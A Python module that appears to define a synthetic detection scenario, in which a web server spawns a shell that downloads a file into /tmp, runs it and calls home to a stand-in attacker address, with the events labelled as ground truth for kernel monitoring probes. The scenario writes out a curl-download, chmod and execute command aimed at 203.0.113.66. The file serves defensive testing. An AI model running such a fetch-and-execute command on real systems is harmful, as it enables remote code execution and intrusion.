"""A suspicious exec chain: the web server starts a shell, which fetches a program and runs it."""

from collections.abc import Iterator
from ipaddress import IPv4Address

from vm.kernel.scenarios.draw import Draw
from vm.kernel.scenarios.model import MILLISECOND, SECOND, Parameter, Scenario, Values
from vm.kernel.scenarios.people import (
    AT_FDCWD,
    NGINX,
    children,
    cron,
    everybody,
    executed,
    forked,
    left,
    opened,
    serving,
    typing,
)
from vm.kernel.world.events import Event, SockAddr, Syscall

_WRITE_CREATE = 0o101
HOME = SockAddr(IPv4Address("203.0.113.66"), 4444)
"""Where the intruder waits."""
CHAIN = 10
"""Events of one attack."""


def _chain(now: int, shell: int, tool: int, number: int) -> Iterator[Event]:
    path = f"/tmp/.cache-{number}"  # noqa: S108 - a path in the model, never opened here
    step = 3 * MILLISECOND
    fetch = f"curl -so {path} http://203.0.113.66/x; chmod +x {path}; {path}"
    yield forked(now, NGINX, shell, "step")
    yield executed(now + step, shell, ("sh", "-c", fetch), "/bin/sh", "attack")
    yield forked(now + 2 * step, shell, tool, "step")
    yield executed(
        now + 3 * step, tool, ("curl", "-so", path, "http://203.0.113.66/x"), "/usr/bin/curl", "attack"
    )
    yield opened(now + 4 * step, tool, path, "step", _WRITE_CREATE)
    yield left(now + 5 * step, tool, "step")
    yield Syscall(now + 6 * step, shell, "fchmodat", (AT_FDCWD, path, 0o755), 0, truth="step")
    yield executed(now + 7 * step, shell, (path,), path, "attack")
    yield Syscall(now + 8 * step, shell, "connect", (3, HOME, 16), 0, truth="step")
    yield left(now + 9 * step, shell, "step")


def _attacks(values: Values) -> Iterator[Event]:
    draw, pids = Draw(values.seed, "attacks"), children(2)
    for number, now in enumerate(draw.times(SECOND // 2, values["period"] * MILLISECOND), 1):
        yield from _chain(now, next(pids), next(pids), number)


EXEC_CHAIN = Scenario(
    "exec-chain", "Suspicious exec chain",
    "Now and then the web server forks, becomes a shell, fetches a file into /tmp, runs it and calls home. "
    "Cron and a person at a shell run commands too, also curl and chmod.",
    "Not the command is suspicious but who runs it: a shell whose parent is nginx, a program in /tmp.",
    lambda values: [
        _attacks(values),
        typing(values, values["typing"] * MILLISECOND),
        cron(values, 3 * values["typing"] * MILLISECOND),
        serving(values, 40 * MILLISECOND),
    ],
    (
        Parameter("period", "Milliseconds between two attacks.", 2000, 100, 600_000, "ms"),
        Parameter("typing", "Milliseconds between two ordinary commands.", 300, 10, 60_000, "ms"),
    ),
    {
        "attack": "a program run by the intruder", "step": "another step of the chain",
        "normal": "anything else",
    },
    frozenset({"attack"}),
    (
        "tracepoint/syscalls/sys_enter_execve", "lsm/bprm_check_security",
        "tracepoint/sched/sched_process_exec",
    ),
    world=everybody,
)  # fmt: skip
